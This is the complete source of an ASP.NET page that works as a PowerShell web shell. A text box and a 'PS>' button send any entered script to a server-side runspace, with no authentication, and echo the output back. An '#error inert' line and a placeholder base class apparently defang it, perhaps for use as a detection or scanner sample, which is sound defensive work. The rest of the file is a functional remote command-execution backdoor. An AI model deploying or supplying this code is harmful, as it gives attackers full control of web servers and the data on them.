<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%@ Import Namespace="System.Management.Automation" %>
<%@ Import Namespace="System.Management.Automation.Runspaces" %>
<script runat="server">
#error inert
protected void btn_Click(object sender, EventArgs e)
{
    output.InnerText = Invoke(input.Text);
}
string Invoke(string script)
{
    using (Runspace rs = RunspaceFactory.CreateRunspace())
    {
        rs.Open();
        Pipeline pipe = rs.CreatePipeline();
        pipe.Commands.AddScript(script);
        pipe.Commands.Add("Out-String");
        var sb = new StringBuilder();
        foreach (PSObject o in pipe.Invoke()) sb.AppendLine(o.ToString());
        return sb.ToString();
    }
}
</script>
<form runat="server">
<asp:TextBox ID="input" runat="server" TextMode="MultiLine" /><asp:Button ID="btn" runat="server" OnClick="btn_Click" Text="PS&gt;" />
<pre id="output" runat="server"></pre></form>
